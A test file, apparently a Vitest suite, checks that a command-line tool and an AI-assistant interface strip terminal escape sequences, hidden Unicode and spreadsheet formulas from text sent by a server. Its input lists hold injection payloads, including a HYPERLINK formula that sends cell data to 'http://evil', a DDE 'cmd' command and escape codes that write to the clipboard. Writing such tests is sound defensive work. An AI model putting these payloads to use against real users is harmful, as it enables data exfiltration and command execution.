import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connect } from './support/mcp.ts';
import { type Platform, startPlatform } from './support/platform.ts';
import { telephony } from './support/telephony.ts';

let platform: Platform;
beforeAll(async () => {
  platform = await startPlatform(afterAll);
});

const FORMULAS = [
  '=HYPERLINK("http://evil/?x="&A1,"Invoice")',
  '=1+1',
  '+1+1',
  '-1+1',
  '+44 7700 900123;=1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\0=1+1',
  '\u001C=1+1',
  '\u3164=1+1',
  '﹦1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '+447700900123=1',
  '-5-5',
  '--5',
];
const ESCAPES = [
  '\u001B[2J\u001B[H',
  '\u001B]0;title\u0007',
  '\u001B]8;;http://evil\u001B\\Invoice\u001B]8;;\u001B\\',
  '\u001B]52;c;ZXZpbA==\u0007',
  '\u009B31mred',
  '\u009D0;title\u009C',
  '\u0090q\u009C',
  '\bback\b\b',
  'over\rwritten',
  '\u007Fdelete',
  '\u0007bell',
  '\u202Eevil\u202C',
  '\u2066evil\u2069',
  '\u200Fevil',
  'two\u2028lines\u2029here',
  '\u{E0041}\u{E007F}tags',
  '\u000Echarset\u000F',
];
const PLAIN = ['+447700900123', '-5', '-5.25', '+1.5', '=', '\u{1F600}', 'Müller, "Ada"; Söhne'];
const TEXTS = [...FORMULAS, ...ESCAPES, ...PLAIN];
const CONTROL = /(?![\t\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

async function run(args: readonly string[], isTerminal: boolean, body: unknown, status = 200) {
  platform.answer = { status, body };
  const { isTTY } = process.stdout;
  process.stdout.isTTY = isTerminal;
  try {
    return await telephony(args, { env: platform.env });
  } finally {
    process.stdout.isTTY = isTTY;
  }
}

const collection = { data: TEXTS.map((name, id) => ({ id, first_name: name })), total: TEXTS.length };
const list = ['users', 'list', '--fields', 'id,first_name', '--output'];

function csvCells(text: string): string[] {
  return [...text.replace(/\r\n$/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describe('on a terminal no text of a server is a control character', () => {
  test.for(['table', 'csv', 'json', 'ndjson'])('in %s', async (format) => {
    const { stdout } = await run([...list, format], true, collection);
    expect(stdout.replaceAll('\r\n', '\n')).not.toMatch(CONTROL);
    expect(stdout).toContain('Müller');
  });

  test('in JSON that stays the same', async () => {
    const { stdout } = await run([...list, 'json'], true, collection);
    expect(JSON.parse(stdout)).toEqual(collection.data);
  });

  test('in lists without records, names of fields, and one record', async () => {
    const values = await run([...list.slice(0, 2), '--query', '[].first_name'], true, collection);
    const names = await run(['users', 'list'], true, { data: TEXTS.map((text) => ({ [text]: text })) });
    const one = await run(['users', 'get', '1'], true, { data: Object.fromEntries(TEXTS.entries()) });
    for (const { stdout } of [values, names, one]) {
      expect(stdout).not.toBe('');
      expect(stdout).not.toMatch(CONTROL);
    }
  });

  test('in errors', async () => {
    for (const text of TEXTS) {
      const answer = { message: text, errors: { id: text, [text]: text } };
      const { stderr } = await run(['users', 'get', '1'], false, answer, 400);
      expect(stderr).toContain('400');
      expect(stderr).not.toMatch(CONTROL);
    }
  });
});

test('in CSV none is a formula, and --raw leaves all as they are', async () => {
  const { stdout } = await run([...list, 'csv'], false, collection);
  const cells = csvCells(stdout);
  expect(cells).toHaveLength(2 * (TEXTS.length + 1));
  for (const cell of cells)
    expect(cell).not.toMatch(
      /^[\s\p{Cc}\uFEFF\u200B\u3164]*[=@＝＋－＠﹦]|^[+-](?!\d+(?:\.\d+)?$)|^[\t\r\n]/u,
    );
  for (const text of ['+447700900123', '-5', '-5.25', '+1.5']) expect(cells).toContain(text);
  const raw = await run([...list, 'csv', '--raw'], false, collection);
  expect(csvCells(raw.stdout).slice(2)).toEqual(TEXTS.flatMap((text, id) => [String(id), text]));
  const names = await run(['users', 'list', '--output', 'csv'], false, { data: [{ '=1+1': 'x' }] });
  expect(csvCells(names.stdout)[0]).toBe("'=1+1");
});

test('JSON in a pipe has every text as it came', async () => {
  const { stdout } = await run([...list, 'json'], false, collection);
  expect(JSON.parse(stdout)).toEqual(collection.data);
  expect(stdout).toContain('\u202Eevil');
});

test('an assistant sees no character that a person does not see', async () => {
  const mcp = await connect(platform);
  platform.answer = { status: 200, body: collection };
  const { text } = await mcp.call('read', { operation: 'listUsers' });
  expect(text).toContain('Müller');
  expect(text).not.toMatch(CONTROL);
});
